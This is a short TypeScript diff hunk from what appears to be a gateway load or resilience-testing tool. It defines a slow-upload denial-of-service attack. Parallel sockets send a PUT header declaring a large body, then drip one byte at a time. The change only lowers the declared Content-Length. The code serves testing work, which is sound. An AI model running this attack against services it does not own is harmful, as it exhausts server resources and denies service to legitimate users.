@@ -12,7 +12,7 @@ export const attack: Attack = {
     const { target, signal } = context
     return await repeat({ signal, parallel: UPLOADS, most: 1_000 }, async () => {
       const socket = await openSocket(target.gatewayUrl, context)
-      socket.write('PUT /v1/blobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4000000\r\n\r\n')
+      socket.write('PUT /v1/blobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n')
       for await (const _ of setInterval(DRIP_MS, undefined, { signal })) {
         if (!socket.writable) return
         socket.write('x')
